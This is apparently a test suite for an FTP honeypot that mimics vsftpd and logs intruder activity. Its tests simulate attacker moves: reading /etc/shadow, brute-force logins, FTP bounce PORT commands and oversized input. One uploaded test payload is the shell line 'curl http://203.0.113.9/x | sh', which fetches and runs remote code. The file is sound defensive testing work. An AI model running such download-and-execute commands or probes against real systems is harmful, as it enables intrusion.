import assert from 'node:assert/strict';
import { createHash, randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { connect, createServer, type Socket } from 'node:net';
import { gunzipSync } from 'node:zlib';
import { after, before, describe, test } from 'node:test';
import { startTestDecky, type TestDecky } from '../harness.ts';
import { TextClient } from './text-client.ts';

/** A minimal FTP client: control replies (multi-line aware) and passive data transfers. */
class Ftp {
  readonly c: TextClient;
  private constructor(c: TextClient) {
    this.c = c;
  }
  static async open(ip: string, port: number): Promise<{ ftp: Ftp; banner: string }> {
    const c = await TextClient.open(ip, port);
    const ftp = new Ftp(c);
    return { ftp, banner: await ftp.reply() };
  }
  async reply(): Promise<string> {
    const first = await this.c.line();
    if (first[3] !== '-') return first;
    const code = first.slice(0, 3);
    const rest = await this.c.linesUntil(new RegExp(`^${code} `));
    return [first, ...rest].join('\n');
  }
  async cmd(text: string): Promise<string> {
    this.c.send(`${text}\r\n`);
    return this.reply();
  }
  async login(user: string, pass: string): Promise<string> {
    assert.match(await this.cmd(`USER ${user}`), /^331 /);
    return this.cmd(`PASS ${pass}`);
  }
  /** PASV, then `command`; returns the data received (or sends `upload`) and the final reply. */
  async transfer(command: string, upload?: Buffer): Promise<{ data: Buffer; preliminary: string; final: string }> {
    const pasv = await this.cmd('PASV');
    const m = /\((\d+),(\d+),(\d+),(\d+),(\d+),(\d+)\)/.exec(pasv);
    assert.ok(m, `PASV reply: ${pasv}`);
    const host = m.slice(1, 5).join('.');
    const dport = Number(m[5]) * 256 + Number(m[6]);
    const data = await new Promise<Socket>((resolve, reject) => {
      const s = connect({ host, port: dport }, () => resolve(s));
      s.once('error', reject);
    });
    const chunks: Buffer[] = [];
    const closed = new Promise<void>((r) => data.on('close', () => r()));
    data.on('data', (d: Buffer) => chunks.push(d));
    this.c.send(`${command}\r\n`);
    const preliminary = await this.reply();
    if (upload) data.end(upload);
    await closed;
    const final = await this.reply();
    return { data: Buffer.concat(chunks), preliminary, final };
  }
}

describe('ftp', () => {
  let d: TestDecky;
  let port: number;
  before(async () => {
    d = await startTestDecky({ services: [{ name: 'ftp', config: { users: 'backup:backup2024' } }], persona: { hostname: 'files07.corp.lan' } });
    port = d.port('ftp');
  });
  after(() => d.stop());

  test('vsftpd banner, anonymous login, listing and download of the public area', async () => {
    const { ftp, banner } = await Ftp.open(d.ip, port);
    assert.equal(banner, '220 (vsFTPd 3.0.3)');
    assert.equal(await ftp.cmd('SYST'), '530 Please login with USER and PASS.');
    assert.equal(await ftp.login('anonymous', 'mozilla@example.com'), '230 Login successful.');
    const auth = await d.waitForEvent((e) => e.event === 'auth_attempt' && e.fields.username === 'anonymous');
    assert.equal(auth.fields.success, 'true');
    assert.equal(auth.secret?.toString(), 'mozilla@example.com');
    assert.equal(await ftp.cmd('SYST'), '215 UNIX Type: L8');
    assert.match(await ftp.cmd('FEAT'), /^211-Features:\n EPRT\n EPSV[\s\S]*\n211 End$/);
    assert.equal(await ftp.cmd('CWD /pub'), '250 Directory successfully changed.');
    assert.equal(await ftp.cmd('PWD'), '257 "/pub" is the current directory');
    const list = await ftp.transfer('LIST');
    assert.equal(list.preliminary, '150 Here comes the directory listing.');
    assert.equal(list.final, '226 Directory send OK.');
    assert.match(list.data.toString(), /^-rw-r--r-- {4}1 0 {8}0 {8}\s*\d+ \w{3} \d{2} [\d: ]{5} README\r$/m);
    const readme = await ftp.transfer('RETR README');
    assert.match(readme.preliminary, /^150 Opening (ASCII|BINARY) mode data connection for README \(\d+ bytes\)\.$/);
    assert.match(readme.data.toString(), /public FTP area of files07\.corp\.lan/);
    const dl = await d.waitForEvent((e) => e.event === 'file_download' && e.fields.path === '/pub/README');
    assert.equal(dl.fields.size, String(readme.data.length));
    assert.equal(await ftp.cmd('RETR /etc/shadow'), '550 Failed to open file.');
    assert.equal(await ftp.cmd('QUIT'), '221 Goodbye.');
  });

  test('upload lands in the quarantine with the right sha256; anonymous may only write to /incoming', async () => {
    const { ftp } = await Ftp.open(d.ip, port);
    await ftp.login('ftp', 'x');
    assert.equal(await ftp.cmd('TYPE I'), '200 Switching to Binary mode.');
    assert.equal(await ftp.cmd('STOR /pub/evil.sh'), '553 Could not create file.');
    const payload = Buffer.concat([Buffer.from('#!/bin/sh\ncurl http://203.0.113.9/x | sh\n'), randomBytes(70_000)]);
    const up = await ftp.transfer('STOR /incoming/x.sh', payload);
    assert.equal(up.preliminary, '150 Ok to send data.');
    assert.equal(up.final, '226 Transfer complete.');
    const sha = createHash('sha256').update(payload).digest('hex');
    const e = await d.waitForEvent((x) => x.event === 'file_upload' && x.fields.name === 'x.sh');
    assert.equal(e.fields.sha256, sha);
    assert.equal(e.fields.size, String(payload.length));
    assert.equal(e.fields.file_truncated, 'false');
    assert.equal(e.fields.path, '/incoming/x.sh');
    assert.ok(e.fields.quarantine_path?.endsWith(sha));
    assert.deepEqual(readFileSync(e.fields.quarantine_path!), payload);
    // The uploader sees the file it left (vsftpd lists it with its size).
    assert.equal(await ftp.cmd('SIZE /incoming/x.sh'), `213 ${payload.length}`);
  });

  test('weak account: bait home with a real .tar.gz; wrong passwords are refused and counted', async () => {
    const { ftp } = await Ftp.open(d.ip, port);
    assert.equal(await ftp.login('backup', 'nope'), '530 Login incorrect.');
    const failed = await d.waitForEvent((e) => e.event === 'auth_attempt' && e.fields.username === 'backup' && e.fields.success === 'false');
    assert.equal(failed.secret?.toString(), 'nope');
    assert.equal(await ftp.login('backup', 'backup2024'), '230 Login successful.');
    const list = await ftp.transfer('NLST backup');
    const names = list.data.toString().trim().split('\r\n');
    const archive = names.find((n) => n.endsWith('.tar.gz'));
    assert.ok(archive, `an archive in ${names.join(', ')}`);
    const got = await ftp.transfer(`RETR ${archive}`);
    const tarball = gunzipSync(got.data);
    assert.equal(tarball.subarray(257, 262).toString(), 'ustar');
    assert.match(tarball.toString('latin1'), /define\('DB_PASSWORD', '[^']+'\);/);
  });

  test('the tree follows the persona: a printer offers its scans', async () => {
    const printer = await startTestDecky({ services: ['ftp'], persona: { archetype: 'printer', distro: 'alpine', osFamily: 'embedded' } });
    try {
      const { ftp, banner } = await Ftp.open(printer.ip, printer.port('ftp'));
      assert.equal(banner, '220 (vsFTPd 3.0.5)');
      await ftp.login('anonymous', 'x@y');
      const names = (await ftp.transfer('NLST /scans')).data.toString().trim().split('\r\n');
      assert.equal(names.length, 3);
      assert.match(names[0]!, /^\/scans\/scan_\d{8}_\d{4}\.pdf$/);
      const pdf = (await ftp.transfer(`RETR ${names[0]}`)).data.toString('latin1');
      assert.ok(pdf.startsWith('%PDF-1.4') && pdf.endsWith('%%EOF\n'));
    } finally {
      await printer.stop();
    }
  });

  test('three failed logins end the session like vsftpd', async () => {
    const { ftp } = await Ftp.open(d.ip, port);
    for (let i = 0; i < 3; i++) assert.equal(await ftp.login('root', `guess${i}`), '530 Login incorrect.');
    await ftp.c.waitClosed();
  });

  test('PORT: refused towards a third party or a privileged port, honoured towards the client itself', async () => {
    const { ftp } = await Ftp.open(d.ip, port);
    await ftp.login('anonymous', 'a@b');
    assert.equal(await ftp.cmd('PORT 8,8,8,8,0,80'), '500 Illegal PORT command.');
    assert.equal(await ftp.cmd('PORT 127,0,0,1,0,22'), '500 Illegal PORT command.');
    assert.equal(await ftp.cmd('EPRT |1|10.1.2.3|4444|'), '500 Bad EPRT command.');
    const bounce = await d.waitForEvent((e) => e.event === 'data_channel' && e.fields.target_ip === '8.8.8.8');
    assert.equal(bounce.fields.allowed, 'false');

    const chunks: Buffer[] = [];
    let gotData!: () => void;
    const done = new Promise<void>((r) => (gotData = r));
    const sink = createServer((s) => {
      s.on('data', (c: Buffer) => chunks.push(c));
      s.on('close', () => gotData());
    });
    await new Promise<void>((r) => sink.listen(0, '127.0.0.1', r));
    const p = (sink.address() as { port: number }).port;
    try {
      assert.equal(await ftp.cmd(`PORT 127,0,0,1,${p >> 8},${p & 255}`), '200 PORT command successful. Consider using PASV.');
      ftp.c.send('LIST /pub\r\n');
      assert.equal(await ftp.reply(), '150 Here comes the directory listing.');
      await done;
      assert.equal(await ftp.reply(), '226 Directory send OK.');
      assert.match(Buffer.concat(chunks).toString(), /README/);
    } finally {
      sink.close();
    }
  });

  test('garbage, overlong and truncated input: answered, recorded, and the next client works', async () => {
    const { ftp } = await Ftp.open(d.ip, port);
    assert.equal(await ftp.cmd('\x00\xff\x16\x03 garbage'), '530 Please login with USER and PASS.');
    assert.equal(await ftp.cmd(`USER ${'A'.repeat(10_000)}`), '500 Unknown command.');
    await d.waitForEvent((e) => e.event === 'command' && e.fields.overlong === 'true');
    ftp.c.send('PASS half-a-line-without-end');
    ftp.c.close();
    const next = await Ftp.open(d.ip, port);
    assert.equal(next.banner, '220 (vsFTPd 3.0.3)');
    assert.equal(await next.ftp.cmd('NOOP'), '200 NOOP ok.');
    next.ftp.c.close();
  });
});
